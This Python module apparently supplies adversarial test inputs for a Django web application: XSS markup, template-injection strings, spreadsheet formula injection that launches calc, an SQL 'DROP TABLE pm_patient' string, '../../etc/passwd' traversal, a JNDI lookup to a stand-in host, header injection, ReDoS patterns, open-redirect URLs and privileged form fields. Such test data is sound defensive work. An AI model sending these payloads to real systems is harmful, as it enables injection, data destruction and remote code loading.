"""Values that nobody types and any program may send, and names of fields that no page has."""

from collections.abc import Sequence

MARKER = "<b id=zq7>"  # where it stands so in a page, text became markup
QUOTED = "onfocus=zq7"  # or an attribute, where it stands behind a quotation mark

TYPEABLE = f"Zq \" {QUOTED} '"  # what forms take: of what looks like markup they say so

Value = str | bytes

MARKUP = (
    MARKER,
    f'"><b id=zq7 {QUOTED}>',
    f'" {QUOTED} x="',
    f"' {QUOTED} x='",
    f"</textarea></option></script></title>{MARKER}",
    f"<!--{MARKER}",
    "&lt;b id=zq7&gt;",
    "javascript:alert(1)",
    "{{ request.user.password }}{% zq7 %}",
    "{0.__class__} %s %(name)s %n",
)
LONG = (
    "x" * 10_000,
    "é" * 400,
    MARKER * 60,
    " " * 5000,
    "a\n" * 3000,
    "\U0001f469\u200d\U0001f467" * 200,
    "e" + "\u0301" * 600,
    "a " * 2000,
)
UNSEEN = (
    "",
    " ",
    "\x00",
    "Aetna\x00HMO",
    "a\r\nSet-Cookie: zq7=1",
    "\x1b[31m\x07\x7f",
    "\ufeff\u200b\u00a0\u2028\x85",
    "\u202egnp.exe",
    "\u2066Aetna\u2069",
    "\ud800",
    "Aetna \udfff\ud800",
    b"\xff\xfe",
    b"Aetna \xc3(",
    b"\xed\xa0\x80\xf4\x90\x80\x80",
    "\U0010ffff\ufffe",
    "İıßﬃŒ",
    "١٢٣",
    "\U0001f600",
)
NUMBERS = (
    "0",
    "-1",
    "-0",
    "00000000000001",
    "1.5",
    "1,000",
    "1e400",
    "1e-400",
    "NaN",
    "-Infinity",
    "0x10",
    "٣",
    "²",
    "1_000",
    "2147483648",
    "9223372036854775807",
    "9223372036854775808",
    "9" * 22,
    "9" * 400,
    "9" * 5000,
    "True",
)
DATES = (
    "02/30/2024",
    "00/00/0000",
    "12/31/9999",
    "01/01/0001",
    "9999-12-31 23:59:59+14:00",
    "-1-1-1",
    "1-5-46",
    "99/99/99999999",
    "2024-W01",
    "today",
)
STRUCTURES = (
    "{}",
    "null",
    "[" * 5000,
    '{"a":' * 2000,
    '{"version": 0, "fields": {}}',
    '{"version": 1, "fields": {"name": ["\\ud800", "\\ud800"]}}',
    '{"version": NaN}',
    "a:b:c",
    "eyJhIjoxfQ:1tZq7:c2lnbmF0dXJl",
)
PROGRAMS = (
    '=HYPERLINK("http://zq7.example")',
    "@SUM(1)",
    "-2+3+cmd|' /C calc'!A0",
    "'; DROP TABLE pm_patient; --",
    "' OR ''='",
    "%",
    "\\",
    "_%\\_",
    '"',
    "../../etc/passwd",
    "${jndi:ldap://zq7.example}",
)
PATTERNS = ("(", "(a+)+$", "(a|a)*b", "[", "(?P<zq7", "\\", "^(([a-z])+.)+$", "*", "a{9999999}")
ADDRESSES = (
    "//zq7.example/",
    "https://zq7.example/admin/",
    "/\\zq7.example",
    "///zq7.example",
    "javascript:zq7()",
    "/admin/login/?next=//zq7.example",
    "\thttps://zq7.example",
)
KINDS: tuple[Sequence[Value], ...] = (
    MARKUP,
    LONG,
    UNSEEN,
    NUMBERS,
    DATES,
    STRUCTURES,
    PROGRAMS,
    PATTERNS,
    ADDRESSES,
)
# Fields that some page has: what do others with them?
STRANGE = (
    *"""
    _popup _to_field _saveasnew _page _previewed _save _continue _addanother _left _stop
    _selected_action _changelist_filters action actor back batch choice chosen confirmed
    counterpart csrfmiddlewaretoken form-TOTAL_FORMS form-INITIAL_FORMS form-0-id groups id
    index is_superuser like next other password plans-TOTAL_FORMS plans-0-id plans-1-name
    policies-TOTAL_FORMS policies-0-id policies-0-DELETE post seen seen_as select_across
    usable_password version __proto__
    """.split(),  # noqa: SIM905 (forty names)
    MARKER,
    "",
    "a\x00b",
)
